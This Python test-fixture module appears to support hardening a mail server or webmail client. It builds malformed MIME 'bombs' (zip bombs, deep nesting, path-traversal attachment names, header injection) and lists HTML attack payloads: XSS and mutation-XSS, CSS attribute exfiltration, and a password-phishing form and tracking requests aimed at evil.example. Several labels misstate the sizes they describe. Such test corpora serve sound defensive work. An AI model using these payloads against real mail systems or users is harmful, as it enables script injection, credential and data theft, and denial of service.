"""Messages that are attacks on whoever reads them: bombs of MIME, and HTML that wants to run, ask or fool."""

import base64
import io
import zipfile
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Bomb:
    """A message; `right` is the reply to it.  What was taken is read by IMAP and shown on its page."""

    name: str
    source: str
    octets: bytes
    right: str = "250|554|552"

    def __str__(self) -> str:
        return self.name


def typed(kind: str, body: bytes, *, encoding: str = "") -> bytes:
    lines = f"Content-Type: {kind}\r\n" + (f"Content-Transfer-Encoding: {encoding}\r\n" if encoding else "")
    return lines.encode() + b"\r\n" + body


def parts(*bodies: bytes, boundary: str = "b", kind: str = "mixed") -> bytes:
    inner = b"".join(b"--" + boundary.encode() + b"\r\n" + body + b"\r\n" for body in bodies)
    return typed(f'multipart/{kind}; boundary="{boundary}"', inner + b"--" + boundary.encode() + b"--\r\n")


def deep(floors: int) -> bytes:
    return (
        b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(floors))
        + b"\r\nx"
    )


def packed(name: str, octets: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, octets)
    return held.getvalue()


def file(name: str, octets: bytes, kind: str = "application/octet-stream") -> bytes:
    head = f'Content-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n'
    return head.encode() + f"Content-Type: {kind}\r\n\r\n".encode() + base64.encodebytes(octets).replace(b"\n", b"\r\n")


MIME = "RFC 2046 section 5.1.1"
BOMBS = [
    Bomb("parts within parts, two thousand", "CVE-2006-1173, CWE-674", deep(500), "554|552"),
    Bomb("messages within messages", "CVE-2006-1173, CWE-674", b"Content-Type: message/rfc822\r\n\r\n" * 500 + b"x", "554|552"),
    Bomb("fifty thousand parts", "CVE-2020-12100", typed("multipart/mixed; boundary=b", b"--b\r\n\r\nx\r\n" * 50_000), "554|552"),
    Bomb("as many parts as may be", "CVE-2020-12100", parts(*[b"\r\nx"] * 190), "250"),
    Bomb("a boundary of 60,000", MIME, typed(f'multipart/mixed; boundary="{"b" * 50_000}"', b"--" + b"b" * 50_000 + b"\r\n\r\nx")),
    Bomb("a boundary of nothing", MIME, typed('multipart/mixed; boundary=""', b"--\r\n\r\nx\r\n----\r\n")),
    Bomb("no boundary", MIME, typed("multipart/mixed", b"--b\r\n\r\nx\r\n")),
    Bomb("boundaries that begin alike", MIME, parts(b"\r\n--bb\r\n\r\nx\r\n--bbb\r\n", boundary="b"), "250"),
    Bomb("the same boundary on every floor", "CVE-2024-39929", parts(parts(parts(b"\r\nx")))),
    Bomb("two boundaries in one field", "CVE-2024-39929", typed("multipart/mixed; boundary=a; boundary=b", b"--a\r\n\r\nx\r\n--b\r\n\r\ny\r\n")),
    Bomb("two types", "RFC 2045 section 5", b"Content-Type: text/plain\r\n" + typed("text/html", b"<p>x</p>")),
    Bomb("a type of 30,000 parameters", "CVE-2023-36053", typed("text/plain" + "; a=b" * 10_000, b"x")),
    Bomb("a parameter in a thousand pieces", "RFC 2231 section 3", typed("text/plain" + "".join(f"; name*{n}=x" for n in range(3000)), b"x")),
    Bomb("pieces of a parameter by numbers that are too large", "RFC 2231 section 3, CWE-190", typed("text/plain; name*99999999999999999999=x; name*0=y", b"x")),
    Bomb("a charset that is a codec", "CWE-502", typed("text/plain; charset=zlib_codec", b"x\x9c"), "250"),
    Bomb("a charset that is a path", "CWE-22", typed('text/plain; charset="../../x"', b"x"), "250"),
    Bomb("a charset of ISO-2022-CN-EXT", "CVE-2024-2961", typed("text/plain; charset=ISO-2022-CN-EXT", b"\x1b$*H\x1bN\xe5" * 1000), "250"),
    Bomb("a charset of UTF-7 that hides a script", "CVE-2007-1114", typed("text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), "250"),
    Bomb("punycode of a megabyte", "CVE-2020-26116, CWE-407", typed("text/plain; charset=punycode", b"a-" + b"b\r\n" * 20_000), "250"),
    Bomb("IDNA of a long name", "CVE-2024-3651, CVE-2022-45061", b"From: a@" + "ｘ".encode() * 10_000 + b".example\r\n\r\nx"),
    Bomb("base64 of padding", "CWE-20", typed("text/plain", b"=" * 60_000, encoding="base64"), "250"),
    Bomb("base64 that is cut", "RFC 2045 section 6.8", typed("text/plain", b"YWJj\r\nYQ\r\nYWJj", encoding="base64"), "250"),
    Bomb("quoted-printable of line ends", "RFC 2045 section 6.7", typed("text/plain", b"=\r\n" * 50_000, encoding="quoted-printable"), "250"),
    Bomb("quoted-printable that is none", "RFC 2045 section 6.7", typed("text/plain", b"=ZZ=\x80==" * 1000, encoding="quoted-printable"), "250"),
    Bomb("uuencode without an end", "CWE-835", typed("text/plain", b"begin 644 ../../etc/passwd\r\n" + b"M" + b"x" * 60 + b"\r\n" * 3, encoding="x-uuencode"), "250"),
    Bomb("uuencode a thousand times", "CWE-407", b"Subject: u\r\n\r\n" + b"begin 644 x\r\n#:&5I\r\n" * 5000, "250"),
    Bomb("an encoding that is none, twice", "RFC 2045 section 6", b"Content-Transfer-Encoding: x\r\n" + typed("text/plain", b"x", encoding="base64")),
    Bomb("an encoded multipart", "RFC 2045 section 6.4", b"Content-Transfer-Encoding: base64\r\n" + parts(b"\r\nx")),
    Bomb("encoded words without end", "CVE-2023-36053, CWE-407", b"Subject: " + b"=?utf-8?q?" * 5000 + b"\r\n\r\nx", "250"),
    Bomb("encoded words with line ends", "CWE-93", b"Subject: =?utf-8?q?a=0D=0ABcc:_x@y.example?=\r\n\r\nx", "250"),
    Bomb("encoded words with a NUL", "CVE-2017-7831", b"From: =?utf-8?b?cmVrdG9yQGFsdW1uaS5leGFtcGxlAGE=?= <x@outside.example>\r\n\r\nx", "250"),
    Bomb("comments within comments", "CVE-2004-0700, CWE-674", b"From: a@b.example\r\nTo: " + b"(" * 20_000 + b"\r\n\r\nx", "250"),
    Bomb("quotations within addresses", "CVE-2023-27043", b'To: ' + b'"\\' * 10_000 + b"\r\n\r\nx", "250"),
    Bomb("groups without an end", "CVE-2023-27043", b"To: " + b"a:" * 10_000 + b"\r\n\r\nx", "250"),
    Bomb("routes without an end", "CVE-2002-1337", b"To: " + b"<>" * 10_000 + b"\r\n\r\nx", "250"),
    Bomb("ten thousand references", "CWE-407", b"References: " + b"\r\n ".join(b"<%d@x>" % n for n in range(4000)) + b"\r\n\r\nx", "250"),
    Bomb("a message that answers itself", "CWE-835", b"Message-ID: <a@x>\r\nReferences: <a@x>\r\nIn-Reply-To: <a@x>\r\n\r\nx", "250"),
    Bomb("a date of year 99999", "CWE-190", b"Date: Mon, 99 Foo 99999 99:99:99 +9999\r\n\r\nx", "250"),
    Bomb("a date in comments", "CVE-2004-0700", b"Date: " + b"(x" * 10_000 + b" Mon, 30 Nov 2026\r\n\r\nx", "250"),
    Bomb("a file whose name is a path", "CWE-22", parts(b"\r\nx", file("../../../etc/cron.d/x", b"x")), "250"),
    Bomb("a file whose name turns", "CWE-451", parts(b"\r\nx", file("bilde\u202egnp.exe", b"x")), "250"),
    Bomb("a file whose name has fields", "CWE-113", parts(b"\r\nx", b"Content-Disposition: attachment; filename*=utf-8''a%0D%0AX-Evil:%201\r\n\r\nx"), "250"),
    Bomb("a file that is a script", "CWE-79", parts(b"\r\nx", file("x.html", b"<script>alert(1)</script>", "text/html")), "250"),
    Bomb("a picture that is a script", "CVE-2023-5631", parts(b"\r\nx", file("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml")), "250"),
    Bomb("a zip of 200 MB", "CWE-409", parts(b"\r\nx", file("x.zip", packed("x", b"\0" * 2 * 10**8), "application/zip")), "250"),
    Bomb("a zip within a zip within", "CWE-409", parts(b"\r\nx", file("x.zip", packed("x.zip", packed("x.zip", packed("x", b"\0" * 10**6))), "application/zip")), "250"),
    Bomb("a zip whose name is a path", "CWE-22", parts(b"\r\nx", file("x.zip", packed("../../etc/cron.d/x", b"x"), "application/zip")), "250"),
    Bomb("a zip that is broken", "CWE-20", parts(b"\r\nx", file("x.zip", packed("x", b"x")[:30] + b"\xff" * 100, "application/zip")), "250"),
    Bomb("a calendar of a million days", "RFC 5545 section 3.3.10", parts(b"\r\nx", typed("text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:20260101T000000Z\r\nRRULE:FREQ=SECONDLY;COUNT=99999999\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")), "250"),
    Bomb("a calendar of ten thousand events within each other", "CWE-674", parts(b"\r\nx", typed("text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\n" + b"BEGIN:VEVENT\r\n" * 10_000)), "250"),
    Bomb("a calendar of folds", "RFC 5545 section 3.1", parts(b"\r\nx", typed("text/calendar; method=REQUEST", b"BEGIN:VCALENDAR\r\nSUMMARY:x" + b"\r\n y" * 20_000)), "250"),
    Bomb("a delivery report about us", "RFC 3464 section 2.1", parts(b"\r\nx", typed("message/delivery-status", b"Reporting-MTA: dns; x\r\n\r\n" + b"Final-Recipient: rfc822; kari@alumni.example\r\nAction: failed\r\n\r\n" * 2000), kind="report; report-type=delivery-status"), "250"),
    Bomb("a report of abuse about us", "RFC 5965 section 3", parts(b"\r\nx", typed("message/feedback-report", b"Feedback-Type: abuse\r\n" * 5000), typed("message/rfc822", b"x"), kind="report; report-type=feedback-report"), "250"),
    Bomb("a winmail.dat of lengths", "CVE-2016-10197, CWE-190", parts(b"\r\nx", file("winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 1000, "application/ms-tnef")), "250"),
    Bomb("a signed message whose signature is a bomb", "CWE-400", parts(b"\r\nx", typed("application/pkcs7-signature", b"0" * 60_000, encoding="base64"), kind="signed; protocol=\"application/pkcs7-signature\""), "250"),
    Bomb("partial messages", "RFC 2046 section 5.2.2", typed("message/partial; id=x; number=1; total=999999999", b"x"), "250"),
    Bomb("an external body", "RFC 2046 section 5.2.3, CWE-918", typed('message/external-body; access-type=local-file; name="/etc/passwd"', b"Content-Type: text/plain\r\n\r\n"), "250"),
    Bomb("enriched text without an end", "RFC 1896", typed("text/enriched", b"<bold>" * 10_000), "250"),
    Bomb("flowed text of ten thousand floors", "RFC 3676 section 4.5", typed("text/plain; format=flowed", b">" * 50_000 + b" x \r\n" * 10), "250"),
    Bomb("a list to leave by a page within", "RFC 8058 section 6, CWE-918", b"List-Unsubscribe: <http://127.0.0.1:25/>, <file:///etc/passwd>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n\r\nx", "250"),
]  # fmt: skip


@dataclass(frozen=True, slots=True)
class Html:
    name: str
    source: str
    html: str

    def __str__(self) -> str:
        return self.name


ROUNDCUBE, MUTATION = "CVE-2024-42008, CVE-2024-42009", "CWE-79 (mutation)"
HTML = [
    Html("a script", "CWE-79", "<script>alert(1)</script>"),
    Html("an event on a body", ROUNDCUBE, '<body title="x" onload="alert(1)">x</body>'),
    Html("an attribute behind another", ROUNDCUBE, '<body title="bgcolor=foo" name="bar style=animation-name:x onanimationstart=alert(1) foo=bar">'),
    Html("SVG with a use", "CVE-2023-5631", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"></use></svg>'),
    Html("SVG with an animation", "CVE-2024-37383", '<svg><animate attributeName="href " values="javascript:alert(1)" href="#l"/><a id="l"><text x="20" y="20">x</text></a></svg>'),
    Html("MathML that changes the parser", MUTATION, "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"),
    Html("noscript that changes the parser", MUTATION, '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Html("a form within a form", MUTATION, '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'),
    Html("a template", MUTATION, "<template><script>alert(1)</script></template>"),
    Html("a comment that is closed early", MUTATION, "<!--><script>alert(1)</script>-->"),
    Html("a comment that is closed by !", MUTATION, "<!-- --!><img src=x onerror=alert(1)> -->"),
    Html("CDATA", MUTATION, "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    Html("a text area", MUTATION, "<textarea></textarea><script>alert(1)</script></textarea>"),
    Html("a title", MUTATION, '<title><a href="</title><img src=x onerror=alert(1)>">'),
    Html("xmp", MUTATION, '<xmp><p title="</xmp><svg/onload=alert(1)>">'),
    Html("plaintext", MUTATION, "<plaintext><script>alert(1)</script>"),
    Html("a slash for a blank", "CWE-79", "<img/src=x/onerror=alert(1)>"),
    Html("a NUL in a name", "CWE-79", "<scr\ufffdipt>alert(1)</scr\ufffdipt><img src=x on\ufffderror=alert(1)>"),
    Html("an attribute without an end", "CWE-79", "<a href='javascript:alert(1)"),
    Html("a tag without an end", "CWE-79", "<img src=x onerror=alert(1)//"),
    Html("javascript with a tab", "CWE-84", '<a href="java\tscript:alert(1)">x</a>'),
    Html("javascript in entities", "CWE-84", '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&colon;alert(1)">x</a>'),
    Html("javascript after a control", "CWE-84", '<a href="\x01javascript:alert(1)">x</a>'),
    Html("javascript of a feed", "CWE-84", '<a href="feed:javascript:alert(1)">x</a>'),
    Html("view-source", "CWE-84", '<a href="view-source:javascript:alert(1)">x</a>'),
    Html("a blob", "CWE-84", '<a href="blob:https://evil.example/x">x</a>'),
    Html("a mail with fields", "CWE-93", '<a href="mailto:a@b.example?attach=/etc/passwd&bcc=evil@evil.example">x</a>'),
    Html("srcdoc", "CWE-79", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
    Html("a portal", "CWE-79", "<portal src='https://evil.example/'></portal><fencedframe src='https://evil.example/'></fencedframe>"),
    Html("a popover", "CWE-79", '<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>'),
    Html("an import of a sheet", "CVE-2019-15237", "<style>@import 'https://evil.example/a.css';</style>"),
    Html("a sheet that is not closed", "CWE-79", "<style>a{background:url(https://evil.example/x"),
    Html("a sheet with escapes", "CWE-79", r"<style>a{background:\75\72\6c(https://evil.example/x)}</style>"),
    Html("a sheet that reads attributes", "CWE-200", '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>'),
    Html("a sheet that covers the page", "CWE-1021", '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">log in</div>'),
    Html("a sheet with a font", "CWE-200", "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>"),
    Html("a sheet with image-set", "CWE-200", "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>"),
    Html("a sheet with a variable", "CWE-200", '<p style="--x:url(https://evil.example/x);background:var(--x)">x</p>'),
    Html("a picture that counts", "CWE-200", '<img src="https://evil.example/pixel.gif" width=1 height=1>'),
    Html("pictures in a set", "CWE-200", '<img srcset="https://evil.example/1x 1x"><picture><source srcset="https://evil.example/2"></picture>'),
    Html("a prefetch", "CWE-200", '<link rel="dns-prefetch preconnect prefetch" href="https://evil.example/">'),
    Html("a refresh", "CWE-601", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Html("a policy of its own", "CWE-693", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">"),
    Html("a base", "CWE-601", '<base href="https://evil.example/"><a href="x">x</a>'),
    Html("a form for the password", "CWE-1021", '<form action="https://evil.example/"><input name=password type=password><input type=submit></form>'),
    Html("a field that takes the focus", "CWE-79", "<input autofocus onfocus=alert(1)>"),
    Html("names that hide the document's", "CWE-79 (clobbering)", '<a id=document></a><form name=getElementById><img name=cookie>'),
    Html("an object", "CWE-79", '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">'),
    Html("a video", "CWE-200", '<video poster="https://evil.example/a"><source src="https://evil.example/b" onerror=alert(1)></video>'),
    Html("a link to a page of ours", "CWE-352", '<a href="/logout">x</a><a href="?action=delete">x</a><img src="/logout">'),
    Html("a link that opens back", "CWE-1022", '<a href="https://evil.example/" target=_blank rel=opener>x</a>'),
    Html("a ping", "CWE-200", '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>'),
    Html("fifty thousand tables", "CWE-674", "<table><tr><td>" * 10_000),
    Html("fifty thousand fonts", "CWE-400 (adoption)", "<font><p>" * 10_000),
    Html("a tag of 50,000 attributes", "CWE-407", "<p " + " ".join(f"a{n}=b" for n in range(10_000)) + ">x"),
    Html("entities without end", "CWE-407", "&" * 20_000 + "&#" * 20_000 + "&#x110000;&#xD800;&#0;"),
    Html("letters that cannot be seen", "CWE-451", "log in at <a href='https://evil.example/'>https://alumni.exa\u200bmple/</a>"),
]  # fmt: skip
